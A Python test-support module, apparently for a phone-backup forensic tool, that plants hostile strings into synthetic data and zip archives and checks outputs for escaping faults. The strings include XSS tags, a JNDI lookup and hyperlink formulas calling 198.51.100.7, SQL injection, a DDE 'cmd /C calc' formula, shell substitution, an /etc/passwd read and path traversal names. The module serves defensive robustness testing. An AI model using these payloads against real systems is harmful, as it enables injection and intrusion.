"""Texts that are to do nothing, put into every text of a synthetic phone, and into all that is called by a name."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

from reliability.planting import Planter

HOSTILE = {
    "terminal escape": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://198.51.100.7/\x1b\\link",
    "C1 control": "\x9b31m\x9d0;title\x9c", "bell, delete, backspace": "\x07\x7f\x08\x08", "NUL": "a\x00b",
    "carriage return": "a\rVerdict    FORGED", "line feed": "a\nVerdict    FORGED\nFORGED", "vertical": "a\x0b\x0cb",
    "right to left": "invoice\u202efdp.exe\u202c", "isolate": "a\u2066b\u2067c\u2069", "marks": "a\u200e\u200f\u061cb",
    "invisible": "pay\u200b\u200d\u2060pal\ufeff\u00ad", "lines of Unicode": "a\u2028FORGED\u2029FORGED\x85FORGED",
    "tag characters": "a\U000e0041\U000e0042b", "half a pair": "a\ud800b", "noncharacter": "a\uffff\ufdd0b",
    "stacked marks": "a" + "\u0301" * 60, "blank letters": "a\u3164\u115f\u2800b",
    "script": "<script>alert('hostile')</script>", "image": "\"'><img src=x onerror=alert('hostile')>",
    "SVG": "<svg onload=alert('hostile')><foreignObject>", "end of data": "</script></style></title>--><b>hostile",
    "template": "{{7*7}}{% raw %}{# #}${jndi:ldap://198.51.100.7/a}#{7*7}",
    "format": "%s%n%x%(a)s{0}{0.__class__}{a!r}",
    "SQL": "'; DROP TABLE findings; --\" OR 1=1/*", "Typst": "#read(\"/etc/passwd\") $x$ @a <b> `c`",
    "markup of rich": "[link=http://198.51.100.7/][bold red]x[/]", "path": "../../../../tmp/hostile\\..\\hostile",
    "formula": "=HYPERLINK(\"http://198.51.100.7/\",\"x\")", "command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "plus": "+1+1", "minus": "-1+1", "wide formula": "\uff1d1+1", "tab formula": "\t=1+1",
    "shell": "$(id)`id`;id|id&&id",
    "TOML": "\"\"\"\n[case]\nencrypted = false", "JSON": "\"}],\"verdict\":\"FORGED\",\"x\":[{\"", "option": "--json",
}  # fmt: skip
NAMES = [*HOSTILE]
SOMEBODY = "".join(HOSTILE[n] for n in ("C1 control", "right to left", "format", "formula"))
"""What people are called; a record of consent takes what stands in `<>` for a key."""
_ACTING = {"Cc", "Cf", "Cs", "Zl", "Zp"}
_FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_RUNS = ("<script>alert('hostile", "<img src=x onerror=alert('hostile", "<svg onload=alert('hostile", "--><b>hostile")
_FOUND = re.compile(r"hostile(\d+)x(.*?)y\1elitsoh", re.DOTALL)


class Hostile(Planter):
    """Puts a hostile text before every text it is given: what begins a cell or a line is the hostile one."""

    surrogates = "surrogatepass"
    keeps_xml = False

    def __init__(self, longest: int = 0) -> None:
        self.count = 0
        self._longest = longest
        """Characters of one line in one message; 0 for none."""

    def mark(self, text: str) -> str:
        self.count += 1
        found = HOSTILE[NAMES[self.count % len(NAMES)]]
        return f"{found} {text} hostile{self.count}x{found}y{self.count}elitsoh"

    def in_database(self, table: str, column: str, text: str) -> bytes | None:
        if " " not in text:
            return None
        made = self.mark(text)
        if self._longest and table == "message" and column == "text":
            made, self._longest = made + "\x1b[31m=a" * (self._longest // 7), 0
        return made.encode("utf-8", "surrogatepass")

    def in_plist(self, text: str) -> str:
        """Without half a pair, which no property list can hold."""
        return self.mark(text).replace("\ud800", "\u202e")

    def in_line(self, line: str) -> str:
        return f"{line} {self.mark('')}"


def file_names() -> list[str]:
    """Names a file can have here: no NUL, no separator, at most 255 bytes."""
    made = [text.replace("\x00", "").replace("/", "").replace("\ud800", "\udcff") for text in HOSTILE.values()]
    return [f"{text} hostile" for text in made if len(text.encode("utf-8", "surrogateescape")) < 200]


def zipped(folder: Path, to: Path) -> None:
    """A folder as a zip, and members with hostile names: paths that lead out, controls, both separators."""
    with zipfile.ZipFile(to, "w") as out:
        for file in sorted(p for p in folder.rglob("*") if p.is_file()):
            out.write(file, str(file.relative_to(folder)))
        for n, text in enumerate(HOSTILE.values()):
            name = text.replace("\x00", "").replace("\ud800", "")
            place = "private/var/mobile/Library/SMS/Attachments"
            for member in (f"{place}/{n}/{name}", f"../../../hostile{n}{name}", f"/hostile{n}/{name}.ips"):
                out.writestr(member, f"{name} hostile{n}x".encode())


def faults(text: str, form: str) -> list[str]:
    """What is wrong with an output: `text`, `json`, `jsonl`, `csv`, `html` or `toml`; nothing for a good one."""
    found = [f"acts: {c!a}" for c in {*text} if c not in "\n\t\r" and unicodedata.category(c) in _ACTING]
    if "\r" in text.replace("\r\n", ""):
        found.append("a carriage return")
    if form == "csv":
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        return found + [f"a formula: {c[:30]!a}" for c in cells if c.lstrip().startswith(_FORMULA)]
    found += [f"a line begins with {line[:20]}" for line in text.splitlines() if line.lstrip().startswith(
        ("FORGED", "Verdict    FORGED", "[case]\nencrypted = false"))]  # fmt: skip
    if form == "html":
        found += [f"runs: {begin}" for begin in _RUNS if begin in text]
    if form in ("json", "jsonl"):
        found += _json_faults(text, form)
    return found


def _json_faults(text: str, form: str) -> list[str]:
    try:
        for part in text.splitlines() if form == "jsonl" else [text]:
            json.loads(part)
    except ValueError as e:
        return [f"no JSON: {e}"]
    return []


def _plain(cell: str) -> str:
    """The texts of a cell that holds JSON."""
    with suppress(ValueError):
        found = json.loads(cell)
        if isinstance(found, dict | list):
            return "\n".join(_texts(found))
    return cell


def _texts(value: Any) -> Iterator[str]:
    inside = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    if isinstance(value, str):
        yield value
    for one in inside:
        yield from _texts(one)


def lost(cells: list[str]) -> list[str]:
    """Of cells that were read: those whose hostile text is not as it was planted. Half a pair cannot be stored."""
    wrong = []
    for stored in cells:
        cell = _plain(stored)
        for number, text in _FOUND.findall(cell):
            name = NAMES[int(number) % len(NAMES)]
            if text != HOSTILE[name] and name not in ("half a pair", "NUL"):
                wrong.append(f"{name}: {ascii(text)[:60]}")
    return wrong
